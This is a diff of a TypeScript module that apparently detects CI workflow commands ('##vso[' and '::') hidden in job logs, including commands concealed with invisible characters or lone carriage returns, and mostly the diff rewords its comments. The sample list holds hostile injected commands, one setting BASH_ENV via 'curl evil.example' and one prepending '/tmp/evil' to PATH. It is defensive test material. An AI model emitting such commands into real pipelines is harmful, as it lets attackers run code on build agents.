@@ -1,17 +1,17 @@
 /**
- * Whether a line of a job's log is a command to the system that runs the job. The agents are .NET programs: they end a line at
- * a lone carriage return too, and compare text as people read it, which passes over characters that nobody sees.
+ * Whether a CI agent takes a line of a job's log as a command. The agents are .NET programs: a carriage return alone also ends a
+ * line, and culture-sensitive comparison ignores invisible characters.
  */
 export function isCommand(line: string): boolean {
   const seen = line.replace(/[\p{Default_Ignorable_Code_Point}\p{Cf}\p{Cc}]/gu, "");
-  // Azure Pipelines finds a command anywhere in a line, and so does GitHub the older form; "::" must come first.
+  // Azure Pipelines finds commands anywhere in a line, as does GitHub in the older form. "::" must come first.
   return /##(vso)?\[/i.test(seen) || seen.trimStart().startsWith("::");
 }
 
-/** The lines of a log as an agent reads them. */
+/** The lines of a log, as an agent splits them. */
 export const linesOf = (log: string) => log.split(/\r\n|\r|\n/);
 
-/** What a cloud could say, each with a part that people should still be able to read. */
+/** Commands that a cloud's text could contain, each with a part that must stay readable. */
 export const COMMANDS: readonly string[] = [
   "##vso[task.setvariable variable=BASH_ENV]$(curl evil.example)",
   "notes: ##vso[task.prependpath]/tmp/evil",
